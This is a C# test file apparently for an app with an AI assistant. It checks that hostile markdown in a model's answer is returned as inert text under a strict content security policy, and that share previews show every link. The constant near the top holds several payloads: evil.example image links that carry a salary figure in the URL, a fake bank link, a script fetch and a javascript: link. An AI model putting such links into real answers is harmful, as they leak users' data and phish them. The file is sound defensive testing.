using Onbehalf.Tests.Fixtures.PuppetModel;
using Onbehalf.Tests.Journeys;

namespace Onbehalf.Tests.Threats;

/// <summary>T26: an address in an answer is text. Nothing fetches it, no header lets a page fetch it, and a share shows where it leads.</summary>
[Collection(PuppetThreats.Name)]
public sealed class MarkdownTests(PuppetWorld world)
{
    private const string Hostile = """
        ![chart](https://evil.example/p.png?d=122262.50) [your bank](https://evil.example/login?d=1 "safe")
        <img src="https://evil.example/x.gif"> <script>fetch('https://evil.example/')</script> ![d](data:image/svg+xml;base64,PHN2Zz4=) [run](javascript:alert(1))
        """;

    [Fact]
    public async Task T26_the_api_hands_out_what_the_model_said_as_text_under_a_policy_that_loads_nothing()
    {
        var (thread, _) = await AnsweredAsync();

        var answer = await (await world.App.AsAsync("alice")).SendAsync("GET", $"api/threads/{thread}/messages");
        var page = await world.App.Anonymous().SendAsync("GET", "");

        Assert.Equal(Hostile, (await world.App.ReplyAsync("alice", thread)).At("text"));
        Assert.Contains("Content-Type: application/json", answer.Headers, StringComparison.Ordinal);
        Assert.Contains("X-Content-Type-Options: nosniff", answer.Headers, StringComparison.Ordinal);
        Assert.Contains("Content-Security-Policy: default-src 'none'; frame-ancestors 'none'", answer.Headers, StringComparison.Ordinal);
        Assert.Contains("default-src 'none'; script-src 'self';", page.Headers, StringComparison.Ordinal);
        Assert.Contains("connect-src 'self';", page.Headers, StringComparison.Ordinal);
        Assert.DoesNotContain("http", page.Headers.Split('\n').Single(static header => header.StartsWith("Content-Security-Policy", StringComparison.Ordinal)), StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe-inline", page.Headers, StringComparison.Ordinal);
    }

    [Fact]
    public async Task T26_what_a_share_would_show_names_every_address_and_hides_nothing()
    {
        var (_, message) = await AnsweredAsync();

        var preview = (await (await world.App.InBrowserAsync("alice")).SendAsync("GET", $"api/messages/{message}/share")).Ok();

        var text = preview.At("text")!;
        Assert.DoesNotContain("](", text, StringComparison.Ordinal);
        Assert.Contains("chart (https://evil.example/p.png?d=122262.50)", text, StringComparison.Ordinal);
        Assert.Contains("your bank (https://evil.example/login?d=1)", text, StringComparison.Ordinal);
        Assert.Contains("run (javascript:alert(1))", text, StringComparison.Ordinal);
        Assert.Contains("https://evil.example/login?d=1", preview.At("links"), StringComparison.Ordinal);
    }

    private async Task<(string Thread, string Message)> AnsweredAsync()
    {
        var question = PuppetWorld.Fresh("salaries with pictures");
        world.Puppet.When(question).Reply(Sql.Company(Sql.AverageSalary), PuppetLine.Say(Hostile));
        var thread = await world.App.OpenThreadAsync("alice", "bob");
        await world.App.AskAsync("alice", thread, question);
        return (thread, (await world.App.ReplyAsync("alice", thread)).At("id")!);
    }
}
